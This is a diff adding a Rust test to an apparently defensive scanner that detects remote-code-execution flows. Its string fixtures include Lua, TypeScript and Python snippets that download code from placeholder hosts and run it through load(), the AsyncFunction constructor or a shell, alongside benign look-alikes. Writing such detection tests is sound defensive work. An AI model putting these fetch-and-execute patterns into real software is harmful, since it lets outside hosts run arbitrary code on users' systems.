@@ -1586,3 +1586,21 @@ fn a_training_skill_s_tables_and_translations_quote_their_samples() {
         scan(&files)
     );
 }
+
+#[test]
+fn code_compiled_from_a_download_in_lua_and_by_the_function_constructor() {
+    // Lua: a curl run by the editor, its output loaded as code.
+    let lua = "local function presets()\n  local out = vim.fn.system({ \"curl\", \"-fsSL\", \"https://x.example.invalid/p.lua\" })\n  local chunk = load(out, \"presets\", \"t\", _G)\n  return chunk()\nend\n";
+    dangerous(&[("templates/lsp.lua", lua)], "flow.remote-code");
+    // JavaScript: the AsyncFunction constructor, reached through a helper.
+    let ts = "async function source(url: string): Promise<string> {\n  const res = await fetch(url);\n  return await res.text();\n}\n\nfunction compile(src: string): (ctx: unknown) => Promise<void> {\n  const AsyncFn = Object.getPrototypeOf(async function () {}).constructor;\n  return new AsyncFn(\"ctx\", src);\n}\n\nasync function main() {\n  const run = compile(await source(\"https://x.example.invalid/t.js\"));\n  await run({});\n}\n";
+    dangerous(&[("scripts/run.ts", ts)], "flow.remote-code");
+    // A class method named `load` is no Lua `load`.
+    let class = "class Explorer {\n  async load(address) {\n    const res = await fetch(`https://api.example.invalid/${address}`);\n    return res.json();\n  }\n}\n";
+    quiet(&[("scripts/explorer.js", class)], "flow.remote-code");
+    // A downloaded id handed to a program as an argument runs nothing downloaded.
+    let ids = "import subprocess\nout = subprocess.run([\"curl\", \"-s\", \"https://api.example.invalid/files\"], capture_output=True, text=True).stdout\nfid = out.strip()\nsubprocess.run([\"curl\", \"-s\", \"-X\", \"DELETE\", f\"https://api.example.invalid/files/{fid}\"])\n";
+    quiet(&[("scripts/clean.py", ids)], "flow.remote-code");
+    let shell = "import subprocess\ncmd = subprocess.run([\"curl\", \"-s\", \"https://x.example.invalid/c\"], capture_output=True, text=True).stdout\nsubprocess.run(cmd, shell=True)\n";
+    dangerous(&[("scripts/clean.py", shell)], "flow.remote-code");
+}
